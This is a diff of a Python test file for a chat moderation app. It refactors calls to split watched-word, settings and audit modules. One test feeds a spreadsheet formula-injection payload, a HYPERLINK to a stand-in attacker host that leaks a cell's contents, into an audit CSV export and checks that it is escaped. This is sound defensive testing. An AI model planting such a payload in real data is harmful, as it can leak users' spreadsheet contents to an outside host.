@@ -12,7 +12,9 @@ from sqlalchemy import select, text
 
 from dialogue.extensions import db
 from dialogue.models import AuditEntry, Membership, Message, QueueItem, WatchedWord, utcnow
-from dialogue.services import moderation
+from dialogue.moderation import audit as audit_log
+from dialogue.moderation import settings as moderation_settings
+from dialogue.moderation import words as watched_words
 
 from .factories import gen_room
 from .helpers import joined, release_database, send, stored, stored_count
@@ -26,17 +28,17 @@ def word(ctx):
     made = []
 
     def add(term: str, action: str = "hold", **kwargs) -> WatchedWord:
-        made.append(moderation.add_word(None, term, action, **kwargs))
+        made.append(watched_words.add_word(None, term, action, **kwargs))
         return made[-1]
 
     yield add
     db.session.rollback()
     for entry in made:
-        moderation.remove_word(None, entry.id)
+        watched_words.remove_word(None, entry.id)
 
 
 def settings(room, **values):
-    moderation.update_settings(room.facilitator.user, room.id, values)
+    moderation_settings.update_settings(room.facilitator.user, room.id, values)
     release_database()
 
 
@@ -500,9 +502,9 @@ def test_word_list_changes_are_audited(ctx, app):
     from .test_auth import sign_in
 
     moderator = gen_user("moderator")
-    word = moderation.add_word(moderator, "audit-term-xyz", "flag")
-    moderation.remove_word(moderator, word.id)
-    changes = [(e.action, e.actor_id, e.target_id) for e in moderation.word_changes(5)]
+    word = watched_words.add_word(moderator, "audit-term-xyz", "flag")
+    watched_words.remove_word(moderator, word.id)
+    changes = [(e.action, e.actor_id, e.target_id) for e in audit_log.word_changes(5)]
     assert changes[:2] == [("word_remove", moderator.id, "audit-term-xyz"), ("word_add", moderator.id, "audit-term-xyz")]
     client = app.test_client()
     sign_in(client, moderator.email)
@@ -521,7 +523,7 @@ def test_audit_csv_cells_never_run_as_formulas(ctx):
     room = gen_room(participants=1)
     entry = AuditEntry(session_id=room.id, actor_id=None, action="warn", target_type="member",
                        target_id="1", reason='=HYPERLINK("https://evil.example/?"&B2,"click")')
-    rows = list(csv.reader(io.StringIO(moderation.audit_csv(room.session, [entry]))))
+    rows = list(csv.reader(io.StringIO(audit_log.audit_csv(room.session, [entry]))))
     assert rows[1][5].startswith("'=HYPERLINK")
 
 
